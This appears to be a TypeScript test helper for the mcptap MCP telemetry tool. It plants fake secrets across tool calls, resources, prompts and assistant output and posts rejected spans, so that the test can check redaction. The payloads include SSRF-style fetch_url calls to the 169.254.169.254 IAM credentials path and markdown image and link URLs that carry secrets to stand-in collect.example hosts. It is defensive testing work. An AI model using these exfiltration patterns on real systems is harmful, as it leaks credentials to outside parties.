// A scripted host that plants every secret in every place content travels, through the real shim:
// the library (instrumentClient + McpHostTelemetry + startMcptap's OTLP exporter) in this process,
// and `mcptap proxy --record` as its own process, both in front of the planted MCP server.
import { randomUUID } from 'node:crypto';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { ATTR, EVENT_SCHEMA_VERSION } from '../../model/index.js';
import {
  API_KEY_HEADER,
  instrumentClient,
  McpHostTelemetry,
  startMcptap,
  type ContentCaps,
} from '../../shim/index.js';
import { MCPTAP_BIN, REPO_ROOT } from '../shim/support.js';
import {
  CONTROL,
  DISTINCTIVE_CHARS,
  plantedDocument,
  secretResourceUri,
  type PlantedSecret,
} from './planted-secrets.js';

const PLANTED_SERVER = join(REPO_ROOT, 'test', 'security', 'planted-server.ts');

/** The shim's own content cap in the capped session: small, so that each cut falls inside a token. */
export const SHIM_CAP_BYTES = 1024;
/** The collector's content cap (MCPTAP_COLLECTOR_CONTENT_CAP_BYTES) both stacks are started with. */
export const COLLECTOR_CAP_BYTES = 8192;

const MAX_NAME_CHARS = 1024;

export interface PlantTarget {
  collectorUrl: string;
  apiKey: string;
  /** The proxy's environment: how it finds the collector. */
  proxyEnv: Record<string, string>;
  /** The test's private directory: the secrets file for the server, the proxy's recording. */
  workDir: string;
  secretsFile: string;
}

export interface Planted {
  sessions: string[];
  toolCalls: number;
  contentReads: number;
  recordPath: string;
  /** What the proxy (and the server behind it) printed on stderr. */
  proxyStderr: () => string;
}

function serverArgs(secretsFile: string): string[] {
  return ['--import', 'tsx', PLANTED_SERVER, '--secrets', secretsFile];
}

/**
 * Text whose byte `cap` falls inside the secret's first random part: past its middle and past the
 * first DISTINCTIVE_CHARS, so that what is left before the cut is still searchable, never at its end.
 */
export function straddling(secret: PlantedSecret, cap: number): string {
  const part = secret.randomParts[0]!;
  const kept = Math.min(part.length - 1, Math.max(DISTINCTIVE_CHARS, Math.floor(part.length / 2)));
  const at = Buffer.byteLength(secret.line.slice(0, secret.line.indexOf(part))) + kept;
  return `${'.'.repeat(cap - at)}${secret.line}\nend of padded note`;
}

async function libraryClient(
  telemetry: McpHostTelemetry,
  sessionId: string,
  secretsFile: string,
): Promise<Client> {
  const client = new Client({ name: 'planting-host', version: '1.0.0' });
  instrumentClient(client, {
    serverName: 'vault',
    endpoint: `node planted-server.ts`,
    sessionId: () => sessionId,
    telemetry,
  });
  await client.connect(
    new StdioClientTransport({
      command: process.execPath,
      args: serverArgs(secretsFile),
      cwd: REPO_ROOT,
      stderr: 'ignore',
    }),
  );
  return client;
}

function textOf(result: Awaited<ReturnType<Client['callTool']>>): string {
  const content = Array.isArray(result.content) ? (result.content as { type: string; text?: string }[]) : [];
  return content.map((part) => part.text ?? '').join('\n');
}

/**
 * Plants, for every secret: tool-call arguments and results, the catalog (a tool description),
 * resource URIs and contents, a prompt log holding a tool result as JSON inside JSON, assistant
 * output links and images, URLs that raise alerts quoting them (SSRF, injected result), and content
 * cut at the shim's and the collector's caps inside the token.
 */
export async function plantEverything(
  target: PlantTarget,
  secrets: readonly PlantedSecret[],
): Promise<Planted> {
  const document = plantedDocument(secrets);
  const mcptap = startMcptap({
    endpoint: target.collectorUrl,
    apiKey: target.apiKey,
    registerGlobal: false,
    scheduledDelayMillis: 50,
  });
  const sessions = [`plant-${randomUUID()}`, `plant-capped-${randomUUID()}`, `plant-proxy-${randomUUID()}`];
  let toolCalls = 0;
  let contentReads = 0;

  const recordPath = join(target.workDir, 'proxy-record.jsonl');
  let proxyStderr = '';
  const clients: Client[] = [];
  try {
    const telemetry = new McpHostTelemetry({ tracer: mcptap.tracer, hostId: 'planting-host' });
    const client = await libraryClient(telemetry, sessions[0]!, target.secretsFile);
    clients.push(client);
    const session = telemetry.session(sessions[0]!);
    session.startTurn('Deploy the billing service with the production settings.');
    const { tools } = await client.listTools();
    await client.listResources();
    await client.callTool({ name: 'store_document', arguments: { document } });
    const read = await client.callTool({ name: 'read_document', arguments: {} });
    await client.callTool({ name: 'read_issue', arguments: {} });
    toolCalls += 3;
    // Alerts quote the start of a URL: the control goes first, so that the search can see it there.
    const control = secrets.find((s) => s.type === CONTROL)!;
    for (const secret of secrets) {
      await client.readResource({ uri: secretResourceUri(secret) });
      // The event model caps names (a resource URI) at 1024 characters: the collector rejects the
      // read of a longer URI (the PEM key's) instead of storing it.
      if (secretResourceUri(secret).length <= MAX_NAME_CHARS) contentReads += 1;
      const query = `${secret.type}=${encodeURIComponent(secret.value)}`;
      await client.callTool({
        name: 'fetch_url',
        arguments: {
          url: `http://169.254.169.254/latest/meta-data/iam/security-credentials/?ref=${control.value}&${query}`,
        },
      });
      await client.callTool({ name: 'echo', arguments: { text: straddling(secret, COLLECTOR_CAP_BYTES) } });
      toolCalls += 2;
    }
    // A host puts the tool result into the model's context as JSON text; recordPrompt encodes the
    // messages again, so the document's line breaks arrive escaped twice.
    session.recordPrompt(
      [
        { role: 'system', content: 'You are a deployment assistant.' },
        { role: 'user', content: 'Deploy the billing service with the production settings.' },
        { role: 'tool', tool_call_id: 'call_1', content: JSON.stringify(read) },
        { role: 'tool', tool_call_id: 'call_2', content: JSON.stringify({ text: textOf(read) }) },
      ],
      tools,
    );
    // One reply per secret: all of them in one would pass the collector's cap, cutting the last off.
    for (const s of secrets) {
      const query = `${s.type}=${encodeURIComponent(s.value)}`;
      session.assistantOutput(
        `Deployed. Status: ![${s.type}](https://img.collect.example/pixel.png?${query}) ` +
          `[details](https://status.collect.example/report?${query})`,
      );
    }

    const cappedCaps: Partial<ContentCaps> = { arguments: SHIM_CAP_BYTES, result: SHIM_CAP_BYTES };
    const cappedTelemetry = new McpHostTelemetry({
      tracer: mcptap.tracer,
      hostId: 'planting-host',
      caps: cappedCaps,
    });
    const capped = await libraryClient(cappedTelemetry, sessions[1]!, target.secretsFile);
    clients.push(capped);
    cappedTelemetry.session(sessions[1]!).startTurn('Echo the padded notes.');
    for (const secret of secrets) {
      await capped.callTool({ name: 'echo', arguments: { text: straddling(secret, SHIM_CAP_BYTES) } });
      toolCalls += 1;
    }

    const transport = new StdioClientTransport({
      command: process.execPath,
      args: [
        MCPTAP_BIN,
        'proxy',
        '--name',
        'vault-proxy',
        '--session',
        sessions[2]!,
        '--record',
        recordPath,
        '--',
        process.execPath,
        ...serverArgs(target.secretsFile),
      ],
      cwd: REPO_ROOT,
      env: { ...target.proxyEnv, OTEL_BSP_SCHEDULE_DELAY: '50', MCPTAP_TURN_IDLE_MS: '600000' },
      stderr: 'pipe',
    });
    transport.stderr?.on('data', (chunk: Buffer) => (proxyStderr += chunk.toString('utf8')));
    const proxied = new Client({ name: 'planting-host', version: '1.0.0' });
    clients.push(proxied);
    await proxied.connect(transport);
    await proxied.listTools();
    await proxied.callTool({ name: 'store_document', arguments: { document } });
    await proxied.callTool({ name: 'read_document', arguments: {} });
    const github = secrets.find((s) => s.type === 'github_token')!;
    await proxied.callTool({
      name: 'fetch_url',
      arguments: { url: `http://169.254.169.254/latest/meta-data/?t=${github.value}` },
    });
    toolCalls += 3;
    await proxied.readResource({ uri: secretResourceUri(github) });
    contentReads += 1;
  } finally {
    await Promise.allSettled(clients.map((c) => c.close()));
    // The shim extracts off the host's critical path: let its queue drain before the exporter flushes.
    await delay(500);
    await mcptap.shutdown();
  }
  return { sessions, toolCalls, contentReads, recordPath, proxyStderr: () => proxyStderr };
}

/**
 * Bad input that carries the secrets straight to the collector: a body that is not JSON, and a span
 * the event model refuses (its request id is the whole settings document, over the 1024-character
 * cap of a name). Resolves with what the collector answered, to be searched as well.
 */
export async function postRejectedSpans(
  target: PlantTarget,
  sessionId: string,
  document: string,
): Promise<string[]> {
  const nowNs = `${Date.now()}000000`;
  const attribute = (key: string, value: string | number) => ({
    key,
    value: typeof value === 'number' ? { intValue: value } : { stringValue: value },
  });
  const span = {
    traceId: randomUUID().replace(/-/g, ''),
    spanId: randomUUID().replace(/-/g, '').slice(0, 16),
    name: 'tools/call store_document',
    kind: 3,
    startTimeUnixNano: nowNs,
    endTimeUnixNano: nowNs,
    attributes: [
      attribute(ATTR.eventKind, 'tool_call'),
      attribute(ATTR.schemaVersion, EVENT_SCHEMA_VERSION),
      attribute(ATTR.eventId, randomUUID()),
      attribute(ATTR.sessionId, sessionId),
      attribute(ATTR.serverName, 'vault'),
      attribute(ATTR.toolName, 'store_document'),
      attribute(ATTR.requestId, document),
      attribute(ATTR.toolCallArguments, JSON.stringify({ document })),
    ],
  };
  const bodies = [
    `{"resourceSpans": [${JSON.stringify(document)}`,
    JSON.stringify({ resourceSpans: [{ scopeSpans: [{ spans: [span] }] }] }),
  ];
  const answers: string[] = [];
  for (const body of bodies) {
    const response = await fetch(`${target.collectorUrl.replace(/\/+$/, '')}/v1/traces`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', [API_KEY_HEADER]: target.apiKey },
      body,
    });
    answers.push(`${response.status} ${await response.text()}`);
  }
  return answers;
}
